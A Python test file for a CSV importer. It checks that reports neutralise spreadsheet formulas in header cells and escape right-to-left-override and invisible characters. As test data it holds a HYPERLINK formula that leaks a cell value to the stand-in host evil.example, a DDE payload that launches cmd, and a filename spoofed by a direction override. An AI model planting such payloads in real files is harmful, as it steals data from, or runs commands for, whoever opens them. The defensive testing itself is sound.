"""Report files cannot be turned against the admin who opens them.

Every cell that comes from the input, header cells included, is defused before it reaches a
CSV or workbook output, and invisible or text-direction characters cannot disguise a line of
results.csv.
"""

from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook

from importer.config import load_settings
from importer.pipeline import RunResult, validate_files

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")'


def _validate(tmp_path: Path, text: str) -> RunResult:
    path = tmp_path / "skills.csv"
    path.write_text(text, encoding="utf-8")
    settings = load_settings(None, {"report": {"dir": str(tmp_path / "reports")}}, environ={})
    return validate_files([path], settings)


def _csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _formula_cells(path: Path) -> list[str]:
    workbook = load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or str(cell.value or "").startswith(("=", "+", "-", "@"))
    ]


def _header(*cells: str) -> str:
    return ",".join('"' + cell.replace('"', '""') + '"' for cell in cells)


def test_a_formula_in_a_column_header_is_neutralised_in_rejects_csv(tmp_path: Path) -> None:
    result = _validate(
        tmp_path,
        _header("user", "skill", "level", FORMULA, "+cmd|' /C calc'!A0")
        + "\nann@contoso.com,Python,Guru,secret,x\n",
    )

    header = _csv(result.report_dir / "rejects.csv")[0]
    assert header == ["user", "skill", "level", "'" + FORMULA, "'+cmd|' /C calc'!A0", "error"]
    assert _formula_cells(result.report_dir / "results.xlsx") == []


def test_a_neutralised_rejects_file_fed_back_keeps_its_columns(tmp_path: Path) -> None:
    first = _validate(tmp_path, _header("user", "skill", "-Level-") + "\nann@contoso.com,Go,Guru\n")
    rejects = first.report_dir / "rejects.csv"
    assert _csv(rejects)[0][:3] == ["user", "skill", "'-Level-"]

    fixed = tmp_path / "fixed.csv"
    fixed.write_text(rejects.read_text("utf-8-sig").replace("Guru", "expert"), "utf-8")
    settings = load_settings(None, {"report": {"dir": str(tmp_path / "again")}}, environ={})
    again = validate_files([fixed], settings)

    assert again.counts["valid"] == 1
    assert again.warnings == [f"{fixed}: ignoring column 'error'"]  # "'-Level-" is the level


def test_direction_and_invisible_characters_are_escaped_in_results(tmp_path: Path) -> None:
    result = _validate(
        tmp_path,
        "user,skill,level\n"
        "ann@contoso.com,\u202egnp.exe,expert\n"
        "bob\u200b@contoso.com,Python,expert\n"
        "zoe@contoso.com,برنامه\u200cنویسی,expert\n",
    )

    with (result.report_dir / "results.csv").open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.DictReader(handle))
    assert [(line["user"], line["displayName"], line["action"]) for line in lines] == [
        ("ann@contoso.com", "\\u202egnp.exe", "invalid"),
        ("bob\\u200b@contoso.com", "Python", "invalid"),
        ("zoe@contoso.com", "برنامه\u200cنویسی", "valid"),  # a joiner that is spelling stays
    ]
    assert "U+202E RIGHT-TO-LEFT OVERRIDE" in lines[0]["error"]
    assert "\u202e" not in (result.report_dir / "results.csv").read_text("utf-8-sig")
    workbook = load_workbook(result.report_dir / "results.xlsx")
    values = [str(c.value) for row in workbook["Results"].iter_rows() for c in row if c.value]
    assert not any("\u202e" in value or "\u200b" in value for value in values)
    # rejects.csv is the admin's data to fix: it keeps the original text.
    assert "\u202egnp.exe" in (result.report_dir / "rejects.csv").read_text("utf-8-sig")
